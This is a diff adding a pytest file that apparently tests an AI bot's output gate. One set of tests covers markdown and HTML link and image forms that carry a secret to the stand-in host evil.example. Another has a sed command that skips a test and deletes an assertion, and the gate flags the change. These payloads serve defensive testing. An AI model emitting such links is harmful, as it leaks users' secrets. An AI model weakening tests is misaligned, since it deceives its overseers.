@@ -1,0 +1,81 @@
+"""Ways out with words and tests (A-42, A-55), beside `test_work_tree` and `test_text_that_leaves`."""
+
+from __future__ import annotations
+
+import re
+from html import unescape
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from bot.gate.text import clean_markdown
+from tests.attacks.conftest import Attack
+from tests.support.repositories import commit_all
+
+SECRET = "aHVudGVyMg"
+FORMS = (
+    f"![a](https://evil.example/{SECRET}.png)",
+    f"![a][r]\n\n[r]: https://evil.example/{SECRET}",
+    f"![r]\n\n[r]: <https://evil.example/{SECRET}> 'x'",
+    f"[a](https://evil.example/?q={SECRET})",
+    f"[a][r]\n\n> [r]:\n> https://evil.example/?q={SECRET}",
+    f"[![a](https://evil.example/{SECRET}.png)](https://github.com/o/r?q={SECRET})",
+    f"<https://evil.example/?q={SECRET}>",
+    f"https://evil.example/?q={SECRET} and www.evil.example/{SECRET}",
+    f"<img src='https://evil.example/{SECRET}'>",
+    f"<a href=\"https://evil.example/{SECRET}\">a</a>",
+    f"![a](&#104;ttps://evil.example/{SECRET}) [a](https&colon;//evil.example/{SECRET})",
+    f"[a](//evil.example/{SECRET}) [b](https:\\\\evil.example/{SECRET})",
+)  # fmt: skip
+
+
+PAGE = MarkdownIt("gfm-like", {"html": True, "linkify": False})
+
+
+def places(text: str) -> list[str]:
+    """Where the page that GitHub makes of `text` would go, by itself or at a click: bare addresses are links, too."""
+    page = PAGE.render(text)
+    bare = re.sub(r"<pre>.*?</pre>|<code>.*?</code>|<[^>]*>", " ", page, flags=re.DOTALL)
+    found = re.findall(r"<[A-Za-z][^<>]*\s(?:src|href)\s*=\s*[\"']?([^\"'\s>]*)", page)
+    found += re.findall(r"(?:https?://|www\.)\S+", bare)
+    return [unescape(place) for place in found]
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_a42_no_form_of_an_address_carries_anything_away(form: str) -> None:
+    """Breaks: bot/gate/addresses.py "stays = _NEAR.match(text, end) or listed.match(text, opened.end())" """
+    assert any("evil.example" in place for place in places(form)) or "\\\\" in form, (
+        "the attack works unguarded"
+    )
+    left = places(clean_markdown(form, 10_000))
+    assert not [place for place in left if "evil" in place or SECRET in place]
+
+
+@given(
+    st.lists(
+        st.sampled_from([*FORMS, "`", "```\n", "\n\n", "> ", "- ", "[", "](", "\\", "*", " "]), max_size=8
+    )
+)
+def test_a42_nor_does_any_mixture_of_forms(parts: list[str]) -> None:
+    """Breaks: bot/gate/addresses.py "return _SCHEME.sub(" """
+    left = places(clean_markdown("".join(parts), 10_000))
+    # A bare address goes on to the next blank, on a page: what matters is whose it is.
+    assert not [place for place in left if not re.match(r"https?://github\.com[/)]", place, re.IGNORECASE)]
+
+
+@pytest.mark.bubblewrap
+def test_a55_a_weakened_test_is_named_with_its_lines(attack: Attack, repo: Path) -> None:
+    """Breaks: bot/gate/verdict.py "weakened(change.path, diff.removed, diff.added" """
+    (repo / "tests").mkdir()
+    (repo / "tests/test_app.py").write_text(
+        "def test_a():\n    assert 1\n\ndef test_b():\n    assert f() == 2\n"
+    )
+    commit_all(repo, "Add tests")
+    attacked = attack(
+        "sed -i '5s/assert f() == 2/f()/; 1i import pytest\\n@pytest.mark.skip' tests/test_app.py"
+    )
+    [file] = attacked.outcome["files"]
+    assert file["sensitive"] == "removes 1 assertion (line 5 before), skips a test (line 2)"
